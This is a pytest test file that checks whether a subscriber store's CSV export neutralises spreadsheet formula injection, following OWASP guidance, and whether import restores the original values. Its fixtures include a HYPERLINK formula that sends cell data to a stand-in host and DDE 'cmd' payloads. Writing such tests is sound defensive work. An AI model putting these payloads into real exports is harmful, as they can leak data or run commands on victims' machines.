"""CSV exports never hand a spreadsheet a formula: a cell starting with ``=``, ``+``,
``-``, ``@``, tab or CR gets a leading single quote (OWASP's CSV Injection guidance,
https://owasp.org/www-community/attacks/CSV_Injection, and ASVS 1.2.10), and an import
takes the quote off again, so export → import changes nothing."""

from __future__ import annotations

import csv
import io

import pytest

from pipeline.store import add_subscriber, export_csv, import_csv, show
from pipeline.store.importer import neutralise, restore

HOSTILE_NAMES = (
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "'=already quoted by hand",
    "''@twice",
    "'plain quote",
    "Ann",
)


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _export(store, **kwargs) -> str:
    buffer = io.StringIO()
    export_csv(store, buffer, **kwargs)
    return buffer.getvalue()


@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", "\x00=1"])
def test_every_formula_trigger_is_quoted(value):
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", [*HOSTILE_NAMES, "", "'", "''", "1-2", "a=b", "ann@example.com"])
def test_neutralise_and_restore_are_inverse(value):
    assert restore(neutralise(value)) == value
    cell = neutralise(value)
    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r", "\x00")


def test_export_quotes_a_formula_typed_into_the_name_field(store):
    add_subscriber(store, "mal@example.com", name=HOSTILE_NAMES[0], confirmed=True, source="web")
    [row] = _rows(_export(store))
    assert row["name"] == "'" + HOSTILE_NAMES[0]


def test_export_quotes_addresses_and_sources_that_start_like_formulas(store):
    add_subscriber(store, "-bob@example.com", confirmed=True, source="=import(1)")
    add_subscriber(store, "+tag@example.com", confirmed=True, source="@form")
    cells = [c for row in _rows(_export(store)) for c in row.values()]
    assert "'-bob@example.com" in cells and "'+tag@example.com" in cells
    assert "'=import(1)" in cells and "'@form" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_export_then_import_round_trips_names_and_addresses_unchanged(store, write_csv):
    people = {f"p{n}@example.com": name for n, name in enumerate(HOSTILE_NAMES)}
    people["-dash@example.com"] = "-dash"
    for email, name in people.items():
        add_subscriber(store, email, name=name, confirmed=True, source="web")
    text = _export(store)
    with store.begin() as conn:  # start again from an empty store (cascades to memberships)
        conn.exec_driver_sql("DELETE FROM subscribers")
    report = import_csv(store, write_csv(text), confirmed=True, source="restore")
    assert report.imported == len(people) and report.invalid == 0, report.invalid_rows
    for email, name in people.items():
        assert show(store, email).name == name


def test_subscribers_list_csv_is_neutralised_too(brief, project):
    args = ("mal@example.com", "--name", "=1+1", "--confirmed", "--source", "t")
    added = brief("subscribers", "add", *args)
    assert added.code == 0, added.err
    out = brief("subscribers", "list", "--csv")
    assert out.code == 0
    [row] = _rows(out.out)
    assert row["name"] == "'=1+1"
